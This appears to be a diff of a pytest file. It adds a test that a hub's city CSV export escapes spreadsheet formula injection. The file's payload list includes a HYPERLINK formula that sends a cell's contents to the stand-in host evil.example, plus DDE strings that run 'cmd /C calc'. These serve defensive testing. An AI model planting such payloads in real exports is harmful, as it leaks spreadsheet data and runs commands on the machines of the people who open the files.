@@ -8,6 +8,8 @@ import io
 import pytest
 
 from detector.engine.sites import export_sites, import_sites, list_sites
+from tests.support.postgres import postgres_server, postgres_url  # noqa: F401 - fixtures
+from tests.web.conftest import Browser
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -59,3 +61,25 @@ def test_an_exported_registry_imports_back_unchanged(poisoned, tmp_path):
     import_sites(store, again)
     assert {s.id: s for s in list_sites(store)} == before
     assert {s.name for s in before.values()} == {p.strip() for p in PAYLOADS}
+
+
+def test_the_hubs_city_export_never_starts_a_cell_with_a_formula(postgres_url, tmp_path):
+    from tests.hub.conftest import hub_app  # noqa: PLC0415
+
+    hub = hub_app(postgres_url, tmp_path / "hub")
+    try:
+        store = hub.extensions["ansim"].inspections.store
+        sites = tmp_path / "city.csv"
+        sites.write_text('id,name,district\nS1,Station,"=HYPERLINK(""http://x"",""y"")"\n',
+                         encoding="utf-8")
+        import_sites(store, sites)
+        accounts = hub.extensions["ansim"].accounts
+        accounts.create_first_admin("admin", "correct horse battery", "Admin")
+        supervisor = Browser(hub)
+        supervisor.login("admin", "correct horse battery")
+        text = supervisor.client.get("/api/city/export.csv").get_data(as_text=True)
+        cells = _cells(text.lstrip("\ufeff"))
+        assert not [c for c in cells if c.startswith(TRIGGERS)]
+        assert '\'=HYPERLINK("http://x","y")' in cells
+    finally:
+        hub.extensions["ansim"].inspections.close()
